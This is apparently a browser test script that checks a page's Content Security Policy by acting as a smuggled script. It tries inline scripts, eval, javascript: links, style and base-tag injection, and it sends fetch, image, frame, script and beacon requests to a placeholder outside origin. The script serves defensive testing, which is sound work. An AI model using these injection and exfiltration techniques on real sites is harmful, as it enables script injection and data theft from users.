// What could a script do that was smuggled into this page? Tries what the policy forbids; `OUTSIDE` is another origin.
// Gives what worked, and leaves in `window.refused` the directives that were broken.
// What reached the other origin, only its host can say: those tries end, and that is all that is asked of them here.
const worked = new Set();
const refused = (window.refused = new Set());
document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.add(effectiveDirective));

/** A new task: WebDriver's own script may do what a page may not. */
const turn = () => new Promise((done) => setTimeout(done));
const attempt = async (name, act) => {
  await turn();
  try {
    if ((await act()) !== false) worked.add(name);
  } catch {
    // Refused.
  }
};
const put = (name, attributes, parent = document.body) => {
  const element = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  return parent.appendChild(element);
};
/** An element that loads something, when it has it or has given up. */
const ends = async (name, attributes) => {
  const element = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  await new Promise((done) => {
    element.onload = element.onerror = done;
    document.body.append(element);
  });
};
const ran = (mark) => window[mark] === true;

// Scripts out of text.
await attempt('inline script', async () => {
  put('script', {}).append('window.inline = true');
  await turn();
  return ran('inline');
});
await attempt('event attribute', async () => {
  const button = put('button', { onclick: 'window.pressed = true' });
  button.click();
  return ran('pressed');
});
await attempt('javascript address', async () => {
  put('a', { href: 'javascript:void(window.followed = true)' }).click();
  await turn();
  await turn();
  return ran('followed');
});
await attempt('eval', () => eval('true'));
await attempt('Function', () => new Function('return true')());
await attempt('timer', async () => {
  setTimeout('window.late = true');
  await turn();
  await turn();
  return ran('late');
});
await attempt('worker from a blob', () => {
  const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(true)'])));
  return new Promise((done) => {
    worker.onmessage = () => done(true);
    worker.onerror = () => done(false);
  });
});
await attempt('innerHTML', () => {
  put('p', {}).innerHTML = '<b>text</b>';
});
await attempt('document.write', () => document.implementation.createHTMLDocument('').write('<b>text</b>'));
await attempt('a policy for trusted types', () => {
  trustedTypes.createPolicy('smuggled', { createHTML: (text) => text });
});
await attempt('a default policy for trusted types', () => {
  trustedTypes.createPolicy('default', { createHTML: (text) => text });
});

// Looks.
await attempt('style attribute', () => getComputedStyle(put('p', { style: 'position: fixed' })).position === 'fixed');
await attempt('style element', () => {
  put('style', {}).append('.smuggled { position: fixed }');
  return getComputedStyle(put('p', { class: 'smuggled' })).position === 'fixed';
});

// Another address for everything that is relative.
await attempt('base', () => {
  const base = put('base', { href: 'OUTSIDE' }, document.head);
  const moved = document.baseURI.startsWith('OUTSIDE');
  base.remove();
  return moved;
});

// Ways out.
await fetch('OUTSIDE/fetch', { mode: 'no-cors' }).catch(() => {});
await ends('img', { src: 'OUTSIDE/image' });
await ends('link', { rel: 'stylesheet', href: 'OUTSIDE/style' });
await ends('iframe', { src: 'OUTSIDE/frame' });
await ends('script', { src: 'OUTSIDE/script' }).catch(() => {});
navigator.sendBeacon('OUTSIDE/beacon', 'what was read');
return [...worked];
